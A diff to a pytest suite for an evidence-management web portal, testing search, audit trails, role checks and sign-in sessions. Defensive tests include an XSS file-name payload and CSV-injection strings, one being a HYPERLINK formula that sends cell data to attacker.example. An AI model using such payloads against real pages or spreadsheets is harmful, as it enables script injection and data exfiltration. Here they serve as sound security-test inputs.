@@ -11,29 +11,27 @@ from __future__ import annotations
 import csv
 import io
 import re
-from collections.abc import Iterator
 from dataclasses import dataclass, field
 from datetime import timedelta
 from pathlib import Path
 from urllib.parse import parse_qs, urlparse
 
 import pytest
-from fastapi import Request
 from fastapi.testclient import TestClient
 
-from evidence.access import Actor, Role
-from evidence.errors import AccessDenied, IntegrityError, StorageUnavailable
+from evidence.access import Actor
+from evidence.errors import IntegrityError, StorageUnavailable
 from evidence.incident import IncidentRef
 from flows import search as searching
 from flows.holds import set_hold
 from flows.linking import link_items
+from storage.accounts import SessionRecord
 from storage.audit_log import AuditLog
 from tests.factories import DEFAULT_TAKEN, make_jpeg, make_mp4
-from tests.station import Station, make_station
-from web import sessions
-from web.app import create_app
-from web.people import Person
+from tests.signing_in import TestPortal, make_test_portal
+from tests.station import Station
 from web.portal import Portal
+from web.sessions import SESSION_COOKIE
 
 INCIDENT = "KNT-2026-000123"
 SLASHED = "37/12345/26"
@@ -47,41 +45,43 @@ TWO_DAYS_LATER = DEFAULT_TAKEN + timedelta(days=2)
 
 @dataclass
 class PagesPortal:
-    station: Station
-    portal: Portal
+    """The module's portal; people sign in through the real sign-in form (``tests.signing_in``)."""
+
+    test_portal: TestPortal
     ids: dict[str, str]
     """Evidence id by the file name it was ingested from."""
-    purposes: dict[tuple[str, str], str] = field(default_factory=dict)
-    people: dict[str, Person] = field(default_factory=dict)
 
-    def client(self, user_id: str, *roles: Role) -> TestClient:
-        person = Person(
-            Actor(user_id, frozenset(roles)),
-            "password+totp",
-            f"session-{user_id}-{len(self.people)}",
-            "testclient",
-            f"csrf-{user_id}-{len(self.people)}",
-        )
-        self.people[person.session_id] = person
-        client = TestClient(create_app(self.portal), base_url="https://testserver", follow_redirects=False)
-        app = client.app
-        assert hasattr(app, "dependency_overrides")
-        app.dependency_overrides[sessions.signed_in] = lambda: person
+    @property
+    def station(self) -> Station:
+        return self.test_portal.station
 
-        async def csrf_checked(request: Request) -> Person:
-            form = await request.form()
-            if form.get("csrf_token") != person.csrf_token:
-                raise AccessDenied("CSRF check failed")
-            return person
+    @property
+    def portal(self) -> Portal:
+        return self.test_portal.portal
 
-        app.dependency_overrides[sessions.csrf_checked] = csrf_checked
-        return client
+    signed_in: dict[str, TestClient] = field(default_factory=dict)
+
+    def client(self, user_id: str) -> TestClient:
+        """``user_id``'s session shared by the module's tests (signing in costs an Argon2 hash)."""
+        if user_id not in self.signed_in:
+            self.signed_in[user_id] = self.new_session(user_id)
+        return self.signed_in[user_id]
+
+    def new_session(self, user_id: str) -> TestClient:
+        """A session of its own, with no purposes given yet."""
+        return self.test_portal.signed_in_client(user_id)
+
+    def session_of(self, client: TestClient) -> SessionRecord:
+        record = self.portal.accounts.session(client.cookies[SESSION_COOKIE])
+        assert record is not None
+        return record
 
 
 @pytest.fixture(scope="module")
-def pages(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PagesPortal]:
+def pages(tmp_path_factory: pytest.TempPathFactory) -> PagesPortal:
     root = tmp_path_factory.mktemp("pages")
-    station = make_station(root / "station")
+    test_portal = make_test_portal(root / "station")
+    station = test_portal.station
     first = root / "BWC-PAGES1" / "DCIM"
     make_jpeg(first / "IMG_0001.JPG", size=(64, 48), taken=DEFAULT_TAKEN, gps=(51.501, -0.1419), seed=1)
     make_jpeg(first / HOSTILE_NAME, size=(64, 48), taken=TWO_DAYS_LATER, gps=(53.4808, -2.2426), seed=2)
@@ -99,19 +99,9 @@ def pages(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PagesPortal]:
     link_items(vault, catalog, first_ids, IncidentRef(INCIDENT), IVY, reason="scene photos")
     link_items(vault, catalog, [ids["IMG_0101.JPG"]], IncidentRef(SLASHED), IVY, reason="found later")
     set_hold(vault, catalog, IncidentRef(INCIDENT), "Crown Court trial listed", IVY)
-    portal = Portal(settings=station.settings, vault=vault, catalog=catalog, accounts=None)  # type: ignore[arg-type]
-
-    def purpose_for(_portal: Portal, person: Person, evidence_id: str) -> str | None:
-        return harness.purposes.get((person.session_id, evidence_id))
-
-    def remember_purpose(_portal: Portal, person: Person, evidence_id: str, purpose: str) -> None:
-        harness.purposes[(person.session_id, evidence_id)] = purpose
-
-    harness = PagesPortal(station, portal, ids)
-    with pytest.MonkeyPatch.context() as patch:
-        patch.setattr(sessions, "purpose_for", purpose_for)
-        patch.setattr(sessions, "remember_purpose", remember_purpose)
-        yield harness
+    for user_id, role in (("ivy", "investigator"), ("olly", "officer"), ("sam", "storage-admin")):
+        test_portal.enrol(user_id, role)
+    return PagesPortal(test_portal, ids)
 
 
 def events_of(pages: PagesPortal, evidence_id: str) -> list[dict[str, object]]:
@@ -135,7 +125,7 @@ def form_token(html: str) -> str:
 
 
 def test_search_finds_by_each_criterion_and_shows_what_the_catalog_knows(pages: PagesPortal) -> None:
-    ivy = pages.client("ivy", "investigator")
+    ivy = pages.client("ivy")
     ids = pages.ids
     everything = set(ids.values())
 
@@ -169,7 +159,7 @@ def test_search_pages_carry_the_criteria_in_a_stable_order(
     pages: PagesPortal, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(searching, "PAGE_SIZE", 2)
-    ivy = pages.client("ivy", "investigator")
+    ivy = pages.client("ivy")
     first = ivy.get("/search", params={"device": "BWC-PAGES1"})
     assert "Items 1&ndash;2 of 3" in first.text and 'id="previous-page"' not in first.text
     next_link = re.search(r'id="next-page" href="([^"]+)"', first.text)
@@ -203,7 +193,7 @@ def test_search_pages_carry_the_criteria_in_a_stable_order(
 def test_bad_search_input_is_a_400_page_saying_what_is_wrong(
     pages: PagesPortal, query: dict[str, str], message: str
 ) -> None:
-    ivy = pages.client("ivy", "investigator")
+    ivy = pages.client("ivy")
     answer = ivy.get("/search", params=query)
     assert answer.status_code == 400
     problem = re.search(r'id="search-problem">([^<]*)<', answer.text)
@@ -212,10 +202,10 @@ def test_bad_search_input_is_a_400_page_saying_what_is_wrong(
 
 
 def test_each_search_is_recorded_signed_with_who_how_where_and_what(pages: PagesPortal) -> None:
-    olly = pages.client("olly", "officer")
+    olly = pages.client("olly")
     answer = olly.get("/search", params={"officer": "PC-11", "media": "photo", "page": "1"})
     assert answer.status_code == 200
-    person = next(p for p in pages.people.values() if p.user_id == "olly")
+    person = pages.session_of(olly)
     audit_log = pages.portal.audit_log
     recorded = list(audit_log.searches_by("olly"))
     assert len(recorded) == 1
@@ -272,7 +262,7 @@ def test_the_search_log_refuses_changes_and_its_verification_finds_them(pages: P
 def test_the_incident_page_asks_a_purpose_once_then_shows_thumbnails_history_holds_and_retention(
     pages: PagesPortal,
 ) -> None:
-    ivy = pages.client("ivy", "investigator")
+    ivy = pages.new_session("ivy")
     linked = [pages.ids["IMG_0001.JPG"], pages.ids[HOSTILE_NAME], pages.ids["VID_0001.MP4"]]
     before = {evidence_id: len(events_of(pages, evidence_id)) for evidence_id in linked}
     asking = ivy.get(f"/incidents/{INCIDENT}")
@@ -314,7 +304,7 @@ def test_the_incident_page_asks_a_purpose_once_then_shows_thumbnails_history_hol
 def test_an_item_that_does_not_verify_is_named_on_the_incident_page_and_not_decrypted(
     pages: PagesPortal, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    ivy = pages.client("ivy", "investigator")
+    ivy = pages.client("ivy")
     broken = pages.ids[HOSTILE_NAME]
     vault = pages.station.vault
     verify = vault.verify_item
@@ -341,7 +331,7 @@ def test_an_item_that_does_not_verify_is_named_on_the_incident_page_and_not_decr
 def test_a_reference_with_slashes_round_trips_through_the_incident_page_and_its_forms(
     pages: PagesPortal,
 ) -> None:
-    ivy = pages.client("ivy", "investigator")
+    ivy = pages.client("ivy")
     page = ivy.get("/incidents/37/12345/26")
     assert page.status_code == 200 and pages.ids["IMG_0101.JPG"] in page.text
     assert 'action="/incidents/37/12345/26/purpose"' in page.text
@@ -357,7 +347,7 @@ def test_a_reference_with_slashes_round_trips_through_the_incident_page_and_its_
 
 
 def test_each_role_sees_what_it_may_and_an_officer_gets_403_for_an_item(pages: PagesPortal) -> None:
-    olly = pages.client("olly", "officer")
+    olly = pages.client("olly")
     page = olly.get(f"/incidents/{INCIDENT}")
     assert page.status_code == 200
     assert 'id="purpose-form"' not in page.text and "/thumbnail" not in page.text
@@ -379,11 +369,11 @@ def test_each_role_sees_what_it_may_and_an_officer_gets_403_for_an_item(pages: P
         == 403
     )
     assert len(events_of(pages, evidence_id)) == before
-    sam = pages.client("sam", "storage-admin")
+    sam = pages.client("sam")
     admin_page = sam.get(f"/incidents/{INCIDENT}").text
     assert 'id="hold-form"' in admin_page and 'id="release-form"' in admin_page
     assert 'id="link-form"' not in admin_page and "/thumbnail" not in admin_page
-    ivy_page = pages.client("ivy", "investigator").get(f"/incidents/{INCIDENT}").text
+    ivy_page = pages.client("ivy").get(f"/incidents/{INCIDENT}").text
     assert 'id="hold-form"' in ivy_page and 'id="export-form"' in ivy_page
     assert 'id="release-form"' not in ivy_page
 
@@ -392,23 +382,24 @@ def test_each_role_sees_what_it_may_and_an_officer_gets_403_for_an_item(pages: P
 
 
 def open_item(client: TestClient, evidence_id: str, purpose: str) -> str:
-    """Give the item page its purpose (as the form does) and return the page."""
-    asking = client.get(f"/items/{evidence_id}")
-    assert asking.status_code == 200, asking.text
-    if 'id="purpose-form"' in asking.text:
-        given = client.post(
-            f"/items/{evidence_id}/purpose", data={"purpose": purpose, "csrf_token": form_token(asking.text)}
-        )
-        assert (given.status_code, given.headers["location"]) == (303, f"/items/{evidence_id}")
-        asking = client.get(f"/items/{evidence_id}")
-        assert asking.status_code == 200, asking.text
-    return asking.text
+    """Give the item page a purpose for this session (the form it asks with, or the one it offers to
+    change it) and return the page it then shows."""
+    before = client.get(f"/items/{evidence_id}")
+    assert before.status_code == 200, before.text
+    given = client.post(
+        f"/items/{evidence_id}/purpose", data={"purpose": purpose, "csrf_token": form_token(before.text)}
+    )
+    assert (given.status_code, given.headers["location"]) == (303, f"/items/{evidence_id}")
+    page = client.get(f"/items/{evidence_id}")
+    assert page.status_code == 200, page.text
+    assert f'id="purpose">{purpose}<' in page.text.replace("&#34;", '"').replace("&amp;", "&")
+    return page.text
 
 
 def test_the_item_page_shows_the_player_sealed_metadata_location_and_verified_chain(
     pages: PagesPortal,
 ) -> None:
-    ivy = pages.client("ivy", "investigator")
+    ivy = pages.new_session("ivy")
     photo = pages.ids["IMG_0001.JPG"]
     asking = ivy.get(f"/items/{photo}")
     assert 'id="purpose-form"' in asking.text and "IMG_0001.JPG" not in asking.text
@@ -430,7 +421,7 @@ def test_the_item_page_shows_the_player_sealed_metadata_location_and_verified_ch
     chain = events_of(pages, photo)
     assert re.search(rf'id="custody-verification" class="ok">\s*Verified: {len(chain)} events', page)
     view = chain[-1]
-    person = next(p for p in reversed(pages.people.values()) if p.user_id == "ivy")
+    person = pages.session_of(ivy)
     assert view == {
         "type": "access",
         "actor": "ivy",
@@ -450,7 +441,7 @@ def test_the_item_page_shows_the_player_sealed_metadata_location_and_verified_ch
 def test_the_view_is_recorded_before_anything_decrypted_is_shown(
     pages: PagesPortal, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    ivy = pages.client("ivy", "investigator")
+    ivy = pages.client("ivy")
     photo = pages.ids["IMG_0101.JPG"]
     vault = pages.station.vault
     opened = vault.details
@@ -462,7 +453,9 @@ def test_the_view_is_recorded_before_anything_decrypted_is_shown(
 
     monkeypatch.setattr(vault, "details", details_after_the_record)
     open_item(ivy, photo, "check before")
-    assert seen and seen[0]["action"] == "view" and seen[0]["purpose"] == "check before"
+    # every decryption came after its own view was in the chain
+    assert seen and all(e["action"] == "view" and e["actor"] == "ivy" for e in seen)
+    assert seen[-1]["purpose"] == "check before"
 
     def refuse(*args: object, **kwargs: object) -> None:
         raise StorageUnavailable("the store is down")
@@ -480,7 +473,7 @@ def test_the_view_is_recorded_before_anything_decrypted_is_shown(
 
 
 def test_a_device_file_name_that_is_markup_shows_as_text(pages: PagesPortal) -> None:
-    page = open_item(pages.client("ivy", "investigator"), pages.ids[HOSTILE_NAME], "check the name")
+    page = open_item(pages.client("ivy"), pages.ids[HOSTILE_NAME], "check the name")
     assert 'id="original-name">&lt;img src=x onerror=alert(1)&gt;.jpg<' in page
     assert "<img src=x" not in page and "onerror=alert(1)>" not in page
     assert "53.480800" in page  # the rest of the page is there
@@ -494,12 +487,12 @@ def csv_rows(text: str) -> list[dict[str, str]]:
 
 
 def test_audit_trails_are_pages_and_csv_for_a_storage_admin_and_refused_to_others(pages: PagesPortal) -> None:
-    ivy = pages.client("ivy", "investigator")
+    ivy = pages.client("ivy")
     photo = pages.ids["IMG_0001.JPG"]
     open_item(ivy, photo, "audit me")
     ivy.get("/search", params={"incident": INCIDENT})
-    ivy_session = next(p for p in reversed(pages.people.values()) if p.user_id == "ivy").session_id
-    sam = pages.client("sam", "storage-admin")
+    ivy_session = pages.session_of(ivy).session_id
+    sam = pages.client("sam")
 
     item_page = sam.get(f"/audit/items/{photo}")
     assert item_page.status_code == 200 and "Custody chain verified" in item_page.text
@@ -525,7 +518,9 @@ def test_audit_trails_are_pages_and_csv_for_a_storage_admin_and_refused_to_other
     trail = csv_rows(sam.get("/audit/users/ivy.csv").text)
     assert trail == csv_rows(sam.get("/audit/users/ivy", params={"format": "csv"}).text)
     assert [r["at"] for r in trail] == sorted(r["at"] for r in trail)
-    assert {r["event"] for r in trail} == {"access", "search"}
+    assert {r["event"] for r in trail} == {"access", "search", "sign-in"}
+    signed = [r for r in trail if r["event"] == "sign-in" and r["session"] == ivy_session]
+    assert len(signed) == 1 and (signed[0]["sign_in"], signed[0]["client"]) == ("password+totp", "testclient")
     assert all(r["user"] == "ivy" for r in trail)
     views = [r for r in trail if r["event"] == "access" and r["evidence_id"] == photo]
     assert views[-1]["purpose"] == "audit me" and views[-1]["session"] == ivy_session
@@ -533,7 +528,7 @@ def test_audit_trails_are_pages_and_csv_for_a_storage_admin_and_refused_to_other
     assert searched[-1]["incident"] == INCIDENT and "results=3" in searched[-1]["details"]
     assert sam.get("/audit", params={"user": "ivy"}).headers["location"] == "/audit/users/ivy"
 
-    for other in (ivy, pages.client("olly", "officer")):
+    for other in (ivy, pages.client("olly")):
         for url in (f"/audit/items/{photo}", f"/audit/items/{photo}.csv", "/audit/users/ivy.csv", "/audit"):
             assert other.get(url).status_code == 403, url
     assert sam.get("/audit/users/not a user").status_code == 400
@@ -546,11 +541,11 @@ def test_csv_cells_a_spreadsheet_would_run_are_made_inert(pages: PagesPortal) ->
     for hostile in ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"):
         assert inert(hostile) == "'" + hostile
     assert inert("CPS disclosure = yes") == "CPS disclosure = yes"
-    ivy = pages.client("ivy", "investigator")
+    ivy = pages.client("ivy")
     video = pages.ids["VID_0001.MP4"]
     formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
     open_item(ivy, video, formula)
-    sam = pages.client("sam", "storage-admin")
+    sam = pages.client("sam")
     for url in (f"/audit/items/{video}.csv", "/audit/users/ivy.csv"):
         rows = csv_rows(sam.get(url).text)
         mine = [r for r in rows if r["evidence_id"] == video and r["action"] == "view"][-1]
@@ -565,9 +560,9 @@ def test_link_unlink_hold_and_release_round_trip_with_csrf_and_role_checks(pages
     incident = "KNT-2026-000777"
     photo = pages.ids["IMG_0101.JPG"]
     ivy, olly, sam = (
-        pages.client("ivy", "investigator"),
-        pages.client("olly", "officer"),
-        pages.client("sam", "storage-admin"),
+        pages.client("ivy"),
+        pages.client("olly"),
+        pages.client("sam"),
     )
     ivy_token = form_token(ivy.get(f"/incidents/{INCIDENT}").text)
     link = {"evidence_ids": f"{photo}\n", "reason": "seen on <b>the same</b> street"}
@@ -646,7 +641,7 @@ def test_link_unlink_hold_and_release_round_trip_with_csrf_and_role_checks(pages
 def test_a_catalog_rebuild_restores_the_access_index(pages: PagesPortal, tmp_path: Path) -> None:
     from storage.catalog import Catalog
 
-    open_item(pages.client("ivy", "investigator"), pages.ids["IMG_0001.JPG"], "before the rebuild")
+    open_item(pages.client("ivy"), pages.ids["IMG_0001.JPG"], "before the rebuild")
     indexed = list(pages.station.catalog.accesses_by("ivy"))
     assert indexed and pages.station.catalog.access_index_gap() is None
     fresh = Catalog(f"sqlite:///{tmp_path / 'rebuilt.sqlite'}")
